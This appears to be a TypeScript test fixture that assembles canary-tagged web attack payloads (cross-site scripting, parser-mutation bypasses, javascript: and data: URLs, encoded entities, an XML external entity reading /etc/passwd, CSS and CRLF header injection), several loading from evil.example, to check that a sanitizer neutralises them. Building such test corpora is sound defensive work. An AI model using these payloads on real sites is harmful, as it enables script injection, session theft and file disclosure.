import { sanitizeText, shortenForDisplay } from '../../src/rules/base/text.ts';

// Payloads that attack pages, feeds, pictures or headers. KEY: a word unique to the payload; RUN: code that sets a global of that name.

/** Several payloads to a line, with ¦ between them. */
function listed(...lines: readonly string[]): readonly string[] {
  return lines.flatMap((line) => line.split(' ¦ '));
}

/** Escapes from the surrounding context. */
const OPENINGS = ['', '"', '">', "'>", '</title>', '</script>', '</style>', '-->', ']]>', '</bdi>'] as const;

const MARKUP = listed(
  '<script>RUN</script> ¦ <script src=//evil.example/KEY></script> ¦ <img src=x onerror=RUN>',
  '<img/src=//evil.example/KEY.png> ¦ <svg onload=RUN> ¦ <svg/onload=RUN//',
  '<svg><animate onbegin=RUN attributeName=x> ¦ <svg><script>RUN</script>',
  '<svg><use href="data:image/svg+xml,KEY"> ¦ <body onload=RUN> ¦ <iframe src="javascript:RUN">',
  '<iframe srcdoc="<script>RUN</script>"> ¦ <a href="javascript:RUN">x</a> ¦ <a id=KEY name=body>',
  '<object data="javascript:RUN"> ¦ <embed src=//evil.example/KEY>',
  '<style>@import "//evil.example/KEY"</style> ¦ <p style="background:url(//evil.example/KEY)">',
  '<link rel=stylesheet href=//evil.example/KEY> ¦ <meta http-equiv=refresh content="0;url=//KEY">',
  '<base href=//evil.example/KEY/> ¦ <form action=//evil.example/KEY><button>x',
  '<input autofocus onfocus=RUN> ¦ <details open ontoggle=RUN> ¦ <video><source onerror=RUN>',
  '<marquee onstart=RUN> ¦ <b>KEY</b> ¦ <!--<img src=x onerror=RUN> ¦ <KEY onclick=RUN>',
  '<math><mtext><script>RUN</script>',
);

// Input that one parser reads as text and another as markup.
const MUTATIONS = listed(
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '<select><style></select><img src=x onerror=RUN>',
  '<math><mi><table><mglyph><style><img src=x onerror=RUN>',
  '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
  '<form><math><mtext></form><form><mglyph><style>KEY',
  '<svg><desc><![CDATA[</desc><script>RUN</script>]]> ¦ <math><annotation-xml encoding="text/html"><p>KEY',
  '<listing>&lt;img src=x onerror=RUN&gt;</listing> ¦ <xmp></xmp><img src=x onerror=RUN> ¦ <plaintext>KEY',
  '<scr<script>ipt>RUN</scr</script>ipt> ¦ <img src=`x`onerror=RUN>',
);

const ATTRIBUTES = listed(
  ' onmouseover=RUN x= ¦ " onmouseover=RUN x=" ¦ \' onmouseover=RUN x=\'',
  '" autofocus onfocus="RUN" tabindex=0 x=" ¦ " style="background:url(//evil.example/KEY)',
  '" href="javascript:RUN ¦ "/onclick=RUN// ¦ ` onclick=RUN ` ¦ "srcset="//evil.example/KEY',
  '" ping="//evil.example/KEY',
);

const ADDRESSES = listed(
  'javascript:RUN ¦ JaVaScRiPt:RUN ¦ java\tscript:RUN ¦ java\nscript:RUN ¦ \u0001javascript:RUN',
  ' javascript:RUN ¦ javascript&colon;RUN ¦ jav&#x09;ascript:RUN ¦ javascript://%0aRUN',
  'data:text/html,<script>RUN</script> ¦ data:text/html;base64,PHNjcmlwdD4=KEY',
  'data:image/svg+xml,<svg onload=RUN> ¦ vbscript:KEY ¦ blob:KEY ¦ //evil.example/KEY',
  '\\\\evil.example\\KEY ¦ https://evil.example@KEY.example/ ¦ view-source:KEY',
);

const ENTITIES = listed(
  '&lt;script&gt;RUN&lt;/script&gt; ¦ &#60;script&#62;RUN&#60;/script&#62;',
  '&#x3c;img src=x onerror=RUN&#x3e; ¦ &amp;lt;b&amp;gt;KEY ¦ &lt;KEY ¦ &ltKEY ¦ &#0;KEY&#x110000;',
  '&NotEqualTilde;KEY&bogus; ¦ &quot; onclick=RUN x=&quot; ¦ %3Cscript%3ERUN%3C/script%3E',
  '%253Cb%253EKEY ¦ %c0%bcscript%c0%beRUN ¦ ＜script＞RUN＜/script＞ ¦ +ADw-script+AD4-RUN+ADw-/script+AD4-',
  '\\u003cscript\\u003eRUN\\u003c/script\\u003e ¦ \\x3cscript\\x3eRUN',
);

// Control characters, blanks, bidi overrides, invisible characters, and combining marks without a base.
const ODD_CHARACTERS = Array.from(
  '\u0000\u0007\u0008\t\n\f\r\u001b\u007f\u0085\u00a0\u00ad\u0301\u034f\u061c\u115f\u180e' +
    '\u200b\u200d\u200f\u2028\u2029\u202a\u202e\u2060\u2066\u3000\ufe0f\ufeff\ufff9\ufffe\u{e0041}',
);
const SPLIT = ['<scr@ipt>RUN</script>', 'KEY@<img @src=x o@nerror=RUN>@'] as const;

const SCRIPTS = listed(
  "\";RUN;// ¦ ';RUN;// ¦ '-RUN-' ¦ `${RUN}` ¦ \u2028RUN// ¦ \u2029RUN// ¦ </script><!--<script>KEY",
  '<!--<script>RUN</script>--> ¦ {"__proto__":{"KEY":1}} ¦ "}]},"living":{"KEY":1 ¦ \\";RUN;// ¦ */RUN/*',
);

const XML = listed(
  '<!DOCTYPE x [<!ENTITY KEY SYSTEM "file:///etc/passwd">]> ¦ <!ENTITY % KEY "x">&KEY;%KEY;',
  '<?xml-stylesheet href="javascript:RUN"?> ¦ <![CDATA[<script>RUN</script>]]>',
  '</title></entry><entry><id>KEY</id> ¦ </name><uri>javascript:RUN</uri><name>',
  '</text><script>RUN</script> ¦ </svg><foreignObject><body onload=RUN>',
  '<image href="//evil.example/KEY.png"/> ¦ <xi:include href="file:///KEY"/> ¦ &KEY; ¦ ]]>KEY<![CDATA[',
);

const STYLES = listed(
  'x;background:url(//evil.example/KEY) ¦ }*{background:url(//evil.example/KEY)} ¦ expression(RUN)',
  '@import "//evil.example/KEY"; ¦ </style><script>RUN</script>',
);

const HEADERS = listed(
  'KEY\r\nSet-Cookie: KEY=1 ¦ KEY\nLocation: //evil.example ¦ KEY\r\n\r\n<script>RUN</script>',
  '%0d%0aX-KEY: 1 ¦ KEY嘍嘊X-Odd: 1 ¦ KEY\u0085X-Odd: 1',
);

/** Different payloads, each with a unique word. */
export const PAYLOADS: readonly string[] = [
  ...OPENINGS.flatMap((opening) => MARKUP.map((markup) => opening + markup)),
  ...ODD_CHARACTERS.flatMap((odd) => SPLIT.map((split) => split.replaceAll('@', odd))),
  ...MUTATIONS.concat(ATTRIBUTES, ADDRESSES, ENTITIES, SCRIPTS, XML, STYLES, HEADERS),
].map((template, nth) =>
  template.replaceAll('RUN', `alert(${canary(nth)}=1)`).replaceAll('KEY', canary(nth)),
);

/** A word that occurs nowhere else, not even in a hash. */
function canary(nth: number): string {
  return `zqxk${String(nth).padStart(3, '0')}`;
}

export function canariesIn(text: string): readonly string[] {
  return text.match(/zqxk\d{3}/g) ?? [];
}

/** A payload reduced to the characters that names of creatures allow. */
export const asName = (payload: string): string => payload.replace(/[^A-Za-z0-9_-]+/g, ' ').trim();

/** A valid URL with as much of a payload as a URL may have. */
export const asUrl = (payload: string): string =>
  `https://example.org/?q=${sanitizeText(payload).replace(/[^!#-;=?-[\]_a-z~]/g, '')}`;

export const URLS: ReadonlySet<string> = new Set(PAYLOADS.map(asUrl));

/** How pages may show each payload, by its canary. */
const SHOWN: ReadonlyMap<string, readonly string[]> = new Map(
  PAYLOADS.map((payload, nth) => {
    const text = sanitizeText(payload);
    // A list names an unknown filter by its first fifty characters; the graveyard in small letters.
    const filter = sanitizeText(payload.slice(0, 50));
    const kept = [text, shortenForDisplay(text), asName(payload), asUrl(payload)];
    return [canary(nth), [...kept, filter, filter.toLowerCase()]];
  }),
);

/** The payloads in a text as they may be shown; undefined if one of them is changed. */
export function payloadsIn(text: string): readonly string[] | undefined {
  const found = canariesIn(text).map((key) => SHOWN.get(key)?.filter((form) => text.includes(form)) ?? []);
  return found.some((forms) => forms.length === 0) ? undefined : found.flat();
}
